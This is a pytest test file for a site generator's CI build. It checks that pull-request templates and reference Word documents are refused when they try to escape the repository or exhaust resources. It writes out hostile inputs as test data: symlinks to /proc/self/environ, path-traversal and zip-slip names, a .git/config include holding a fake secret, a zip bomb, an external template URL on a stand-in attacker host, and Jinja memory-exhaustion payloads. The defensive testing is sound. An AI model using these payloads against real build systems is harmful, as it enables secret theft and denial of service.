"""Templates and reference documents as a pull request could bring them.

A CI job that builds a pull request holds secrets in its environment (``PERFGEN_SECRET`` stands for them
here) and publishes the output: nothing outside the repository may reach a page, and no template may hang or
exhaust the build. Every refusal is exit 1 with PG030 at the template's file (and line, where there is one).
"""

from __future__ import annotations

import io
import os
import time
import zipfile
from pathlib import Path

import pytest
from conftest import run
from sample_data import ROOT

SECRET = "s3cr3t-7f1d9a"
ENV = {"PERFGEN_SECRET": SECRET}


def published(repo: Path) -> bytes:
    out = repo / "build"
    return b"".join(p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()) if out.exists() else b""


def build(repo: Path, timeout: float = 30) -> tuple[int, str, float]:
    started = time.monotonic()
    r = run(repo, "build", timeout=timeout, env=ENV)
    return r.code, r.err, time.monotonic() - started


def templates(repo: Path) -> Path:
    folder = repo / "templates"
    folder.mkdir(exist_ok=True)
    return folder


def override(repo: Path, body: str, name: str = "project.html.j2") -> Path:
    path = templates(repo) / name
    path.write_text('{% extends "default:project.html.j2" %}{% block footer %}\n' + body + "\n{% endblock %}",
                    encoding="utf-8")
    return path


def refused(repo: Path, *words: str) -> str:
    code, err, _ = build(repo)
    assert code == 1, err
    assert "PG030" in err
    for w in words:
        assert w in err, err
    assert SECRET.encode() not in published(repo)
    assert not (repo / "build" / "2023").exists()
    return err


# ---- 1: nothing outside the repository ---------------------------------------------------------------------


def test_include_through_a_link_to_root_is_refused(repo: Path) -> None:
    (templates(repo) / "sub").symlink_to("/")
    override(repo, "{% include 'sub/proc/self/environ' %}")
    refused(repo, "templates/sub/proc/self/environ")


def test_template_that_links_to_a_secret_file_is_refused(repo: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (templates(repo) / "style.css").symlink_to(secret)
    refused(repo, "templates/style.css", "templates/")


@pytest.mark.parametrize("kind", ["include", "extends", "import"])
def test_every_way_of_naming_a_template_is_checked(repo: Path, kind: str) -> None:
    (templates(repo) / "env.j2").symlink_to("/proc/self/environ")
    body = {"include": "{% include 'env.j2' %}", "extends": "", "import": "{% import 'env.j2' as e %}"}[kind]
    if kind == "extends":
        (templates(repo) / "project.html.j2").write_text("{% extends 'env.j2' %}", encoding="utf-8")
    else:
        override(repo, body)
    refused(repo, "templates/env.j2")


def test_templates_folder_that_links_out_of_the_repository(repo: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "style.css").write_text(SECRET, encoding="utf-8")
    (repo / "templates").symlink_to(elsewhere)
    refused(repo, "templates")


def test_dotdot_in_a_template_name_is_not_found(repo: Path, tmp_path: Path) -> None:
    (repo / "secret.j2").write_text(SECRET, encoding="utf-8")
    override(repo, "{% include '../secret.j2' %}")
    refused(repo, "templates/project.html.j2")


def test_link_inside_templates_is_allowed(repo: Path) -> None:
    (templates(repo) / "footer.j2").write_text("<p>页脚-OK</p>", encoding="utf-8")
    (templates(repo) / "alias.j2").symlink_to("footer.j2")
    override(repo, "{% include 'alias.j2' %}")
    code, err, _ = build(repo)
    assert code == 0, err
    assert "页脚-OK" in (repo / "build" / "2023" / "01-yuanshuili-buchai.html").read_text(encoding="utf-8")


def test_reference_docx_that_links_out_of_the_repository(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "ref.docx"
    outside.write_bytes((ROOT / "templates" / "reference.docx").read_bytes())
    (templates(repo) / "reference.docx").symlink_to(outside)
    refused(repo, "templates/reference.docx")


# ---- 11: files named like templates that are not -----------------------------------------------------------


def test_template_that_is_not_utf8(repo: Path) -> None:
    override(repo, "页脚").write_bytes(
        '{% extends "default:project.html.j2" %}{% block footer %}页脚{% endblock %}'.encode("gbk"))
    refused(repo, "templates/project.html.j2", "UTF-8")


def test_dangling_link_named_like_a_template(repo: Path) -> None:
    (templates(repo) / "project.html.j2").symlink_to("nowhere.j2")
    refused(repo, "templates/project.html.j2")


def test_folder_named_like_a_template(repo: Path) -> None:
    (templates(repo) / "project.html.j2").mkdir()
    refused(repo, "templates/project.html.j2")


def test_fifo_named_like_a_template_does_not_hang(repo: Path) -> None:
    os.mkfifo(templates(repo) / "project.html.j2")
    refused(repo, "templates/project.html.j2")


def test_fifo_named_like_the_reference_document_does_not_hang(repo: Path) -> None:
    os.mkfifo(templates(repo) / "reference.docx")
    refused(repo, "templates/reference.docx")


# ---- 4: templates cannot hang or exhaust the build ---------------------------------------------------------


@pytest.mark.parametrize(("body", "line"), [
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", 2),
    ("{{ '%0999999999d'|format(1) }}", 2),
    ("{{ '%0999999999d' % 1 }}", 2),
    ("{{ '{:>999999999}'.format(1) }}", 2),
    ("{{ '{:{w}}'.format(1, w=999999999) }}", 2),
    ("{{ 'x' * 999999999 }}", 2),
    ("{{ 9 ** 999999999 }}", 2),
    ("{{ 'x'|center(999999999) }}", 2),
    ("{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}", None),  # found between chunks: no line
])
def test_runaway_template_stops_with_its_file_and_line(repo: Path, body: str, line: int | None) -> None:
    override(repo, body)
    code, err, seconds = build(repo, timeout=60)
    assert code == 1, err
    assert f"templates/project.html.j2{'' if line is None else f':{line}'}" in err and "PG030" in err
    assert seconds < 20


@pytest.mark.slow  # the page's time limit is 5 seconds
def test_loop_that_runs_out_of_time_says_so(repo: Path) -> None:
    override(repo, "{% for x in [1] * 5000 %}{% for y in [1] * 5000 %}{% for z in [1] * 5000 %}"
                   "{% endfor %}{% endfor %}{% endfor %}")
    code, err, seconds = build(repo, timeout=60)
    assert code == 1 and "templates/project.html.j2" in err and "PG030" in err
    assert seconds < 20


# ---- 6: a hostile reference document -----------------------------------------------------------------------


def _reference(repo: Path, change: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> None:
    source = zipfile.ZipFile(ROOT / "templates" / "reference.docx")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            data = change.get(info.filename, source.read(info))
            if data is not None:
                z.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    (templates(repo) / "reference.docx").write_bytes(buf.getvalue())


def _document(repo: Path) -> bytes:
    return zipfile.ZipFile(ROOT / "templates" / "reference.docx").read("word/document.xml")


def test_reference_with_an_absurd_page_width(repo: Path) -> None:
    doc = _document(repo).replace(b'w:w="16838"', b'w:w="1e999"')
    _reference(repo, {"word/document.xml": doc})
    refused(repo, "templates/reference.docx")


def test_reference_with_broken_xml(repo: Path) -> None:
    _reference(repo, {"word/styles.xml": b"<w:styles><unclosed>"})
    refused(repo, "templates/reference.docx")


def test_reference_with_a_member_that_inflates_to_gigabytes(repo: Path) -> None:
    _reference(repo, {}, {"word/media/bomb.bin": b"\0" * (20 * 1024 * 1024)})
    code, err, _ = build(repo, timeout=60)
    assert code == 1 and "templates/reference.docx" in err and "PG030" in err


def test_reference_whose_core_properties_point_at_the_document(repo: Path) -> None:
    rels = zipfile.ZipFile(ROOT / "templates" / "reference.docx").read("_rels/.rels")
    rels = rels.replace(b'Target="docProps/core.xml"', b'Target="word/document.xml"')
    _reference(repo, {"_rels/.rels": rels})
    refused(repo, "templates/reference.docx")


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "word\\..\\..\\x"])
def test_reference_with_member_names_that_climb(repo: Path, name: str) -> None:
    _reference(repo, {}, {name: b"pwned"})
    refused(repo, "templates/reference.docx")


def test_reference_that_is_not_a_zip(repo: Path) -> None:
    (templates(repo) / "reference.docx").write_bytes(b"PK\x03\x04 not really")
    refused(repo, "templates/reference.docx")


def test_reference_without_a_document_part(repo: Path) -> None:
    _reference(repo, {"word/document.xml": None})
    refused(repo, "templates/reference.docx")


# ---- 15: control characters never reach a page raw ---------------------------------------------------------


def test_nul_written_as_a_yaml_escape_reaches_no_output(repo: Path) -> None:
    f = repo / "goals" / "2023" / "01-yuanshuili-buchai.yaml"
    text = f.read_text(encoding="utf-8")
    f.write_text(text.replace("name:", 'name: "A\\x00B" #', 1), encoding="utf-8")
    r = run(repo, "build")
    assert r.code == 1 and "PG021" in r.err
    assert b"\0" not in published(repo)


# ---- found by review: the templates folder itself, more reference documents, memory, language -------------


def test_templates_linked_to_the_repository_root_publishes_nothing_of_git(repo: Path, tmp_path: Path) -> None:
    (repo / ".git").mkdir()
    (repo / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    (repo / "templates").symlink_to(".")
    (repo / "project.html.j2").write_text("{% include '.git/config' %}", encoding="utf-8")
    r = run(repo, "build", "--out", str(tmp_path / "site"), env=ENV)
    assert r.code == 1 and "PG030" in r.err and "templates" in r.err
    site = tmp_path / "site"
    assert SECRET.encode() not in b"".join(p.read_bytes() for p in site.rglob("*") if p.is_file())


def test_templates_linked_elsewhere_is_not_used_for_word_either(repo: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "reference.docx").write_bytes((ROOT / "templates" / "reference.docx").read_bytes())
    (repo / "templates").symlink_to(elsewhere)
    r = run(repo, "build", "--format", "docx")
    assert r.code == 1 and "PG030" in r.err and "templates" in r.err


@pytest.mark.parametrize("case", ["no-body", "wrong-prefix", "body-mark", "superscript-two", "utf16-styles",
                                  "bad-content-types", "bad-settings", "main-elsewhere", "macro", "external-template",
                                  "case-twins"])
def test_more_broken_reference_documents(repo: Path, case: str) -> None:
    src = zipfile.ZipFile(ROOT / "templates" / "reference.docx")
    doc = src.read("word/document.xml")
    types = src.read("[Content_Types].xml")
    rels = src.read("_rels/.rels")
    change: dict[str, bytes | None] = {}
    extra: dict[str, bytes] = {}
    if case == "no-body":
        change["word/document.xml"] = doc.replace(b"<w:body>", b"<w:x>").replace(b"</w:body>", b"</w:x>")
    elif case == "wrong-prefix":
        change["word/document.xml"] = doc.replace(b"w:", b"q:").replace(b"xmlns:w=", b"xmlns:q=")
    elif case == "body-mark":
        change["word/document.xml"] = doc.replace(b"<w:body>", b'<w:body w:rsidR="@@perfgen-body@@">')
    elif case == "superscript-two":
        change["word/document.xml"] = doc.replace(b'w:w="16838"', 'w:w="²"'.encode())
    elif case == "utf16-styles":
        change["word/styles.xml"] = src.read("word/styles.xml").decode("utf-8").replace(
            'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    elif case == "bad-content-types":
        change["[Content_Types].xml"] = types[:-20]
    elif case == "bad-settings":
        change["word/settings.xml"] = b"<w:settings"
    elif case == "main-elsewhere":
        change["_rels/.rels"] = rels.replace(b'Target="word/document.xml"', b'Target="word/other.xml"')
        extra["word/other.xml"] = doc
    elif case == "macro":
        change["[Content_Types].xml"] = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    elif case == "external-template":
        extra["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotx" TargetMode="External"/>'
            b"</Relationships>")
    elif case == "case-twins":
        extra["Word/Document.xml"] = doc
    _reference(repo, change, extra)
    refused(repo, "templates/reference.docx")


@pytest.mark.parametrize("body", [
    "{{ 'x'.ljust(2000000000)|length }}",
    "{{ '\\t'.expandtabs(1500000000)|length }}",
    # these two run into the page's memory and time limits (2 s each): in the slow set, which CI runs too
    pytest.param("{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
                 "{{ ns.s|length }}", marks=pytest.mark.slow, id="doubling"),
    pytest.param("{% set big %}{% for i in range(900000) %}{{ 'y' * 4000 }}{% endfor %}{% endset %}{{ big|length }}",
                 marks=pytest.mark.slow, id="set-block"),
])
def test_text_built_out_of_sight_of_the_page_size_check(repo: Path, body: str) -> None:
    override(repo, body)
    code, err, seconds = build(repo, timeout=60)
    assert code == 1, err
    assert "templates/project.html.j2" in err and "PG030" in err
    assert seconds < 20


def test_ordinary_range_use_still_works(repo: Path) -> None:
    override(repo, "<p>{{ range(3)|length }}-{{ range(5)[1] }}-{{ '%05.1f'|format(3.14159) }}</p>")
    code, err, _ = build(repo)
    assert code == 0, err
    assert "3-1-003.1" in (repo / "build" / "2023" / "01-yuanshuili-buchai.html").read_text(encoding="utf-8")


def test_refusals_speak_the_language_of_the_run(repo: Path) -> None:
    (templates(repo) / "project.html.j2").symlink_to("nowhere.j2")
    r = run(repo, "build", "--lang", "en")
    assert r.code == 1 and "dangling link" in r.err
    assert "断开" not in r.err
